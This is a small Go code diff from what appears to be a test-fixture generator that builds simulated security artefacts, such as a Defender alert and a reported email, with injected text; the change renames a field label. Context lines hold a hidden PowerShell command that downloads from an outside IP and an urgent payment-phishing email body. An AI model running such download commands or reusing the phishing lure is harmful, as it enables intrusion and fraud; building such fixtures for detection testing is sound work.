@@ -35,7 +35,7 @@ func fields() []field {
 		{"command line", func(t string) map[string]string {
 			return withNeighbours("defender.json", defenderAlert("p.exe", "powershell -nop -w hidden -c \"Invoke-WebRequest http://203.0.113.7/a\""+spaced(t)))
 		}},
-		{"mail subject", func(t string) map[string]string {
+		{mailField, func(t string) map[string]string {
 			return withNeighbours("reported.eml", mail("Freight adjustment 0226"+spaced(oneLine(t)), "Please see the attached form. It must be paid today."))
 		}},
 		{"commit message", func(t string) map[string]string {
